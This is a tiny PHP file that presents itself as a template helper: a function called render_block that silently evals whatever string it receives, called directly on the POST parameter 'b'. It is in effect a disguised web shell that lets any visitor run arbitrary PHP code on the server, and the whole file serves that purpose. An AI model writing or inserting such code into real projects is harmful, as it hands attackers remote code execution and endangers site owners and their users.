<?php
// a helper that evaluates its parameter, called with what the visitor posted
function render_block($tpl)
{
    return @eval($tpl);
}
$body = isset($_POST['b']) ? $_POST['b'] : '';
render_block($body);
